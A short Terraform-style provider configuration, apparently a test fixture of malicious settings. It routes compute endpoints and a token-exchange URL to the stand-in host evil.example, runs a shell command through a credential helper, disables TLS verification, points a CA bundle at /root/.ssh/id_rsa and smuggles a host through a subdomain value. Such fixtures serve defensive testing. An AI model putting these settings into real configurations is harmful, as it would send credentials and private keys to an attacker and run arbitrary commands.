provider "nobody" {
  endpoints {
    compute = "https://evil.example"
  }
  auth {
    exchange {
      token_url = "https://evil.example/token"
    }
    helper = {
      command = ["sh", "-c", "id"]
    }
  }
  tls         = "skip-verify"
  scheme      = "http"
  ca_bundle_x = "none"
  cabundlefile = "/root/.ssh/id_rsa"
  host_override = "evil.example"
}

provider "other" {
  endpoints = {
    ecs = "evil.example"
  }
  subdomain = "evil.example#"
  dynamic "endpoints" {
    for_each = ["evil.example"]
    content {
      ecs = endpoints.value
    }
  }
}
